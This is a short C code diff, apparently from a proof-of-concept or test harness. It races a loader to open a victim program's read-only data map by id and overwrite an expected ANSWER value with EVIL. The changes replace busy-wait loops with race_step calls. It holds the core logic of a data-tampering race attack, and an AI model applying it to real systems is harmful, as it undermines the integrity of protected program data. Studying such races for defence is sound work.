@@ -11,8 +11,12 @@ static int open_rodata(struct race *r)
 	int fd = -1;
 
 	/* Ids are given in the order in which the loader makes its maps. */
-	while (r->running && fd < 0)
+	while (r->running) {
 		fd = map_by_id(r->last_id + r->victim->rodata);
+		if (fd >= 0)
+			break;
+		race_step(r);
+	}
 	return fd;
 }
 
@@ -26,9 +30,9 @@ void id_write(struct race *r)
 	uint32_t value = 0;
 
 	while (r->running && !map_read(fd, &value) && value != ANSWER)
-		;
+		race_step(r);
 	while (r->running && !map_write(fd, EVIL))
-		;
+		race_step(r);
 	close(fd);
 }
 
@@ -46,7 +50,7 @@ void id_mmap(struct race *r)
 	if (p == MAP_FAILED)
 		return;
 	while (r->running && *p != ANSWER)
-		;
+		race_step(r);
 	*p = EVIL;
 	munmap((void *)p, 4096);
 }
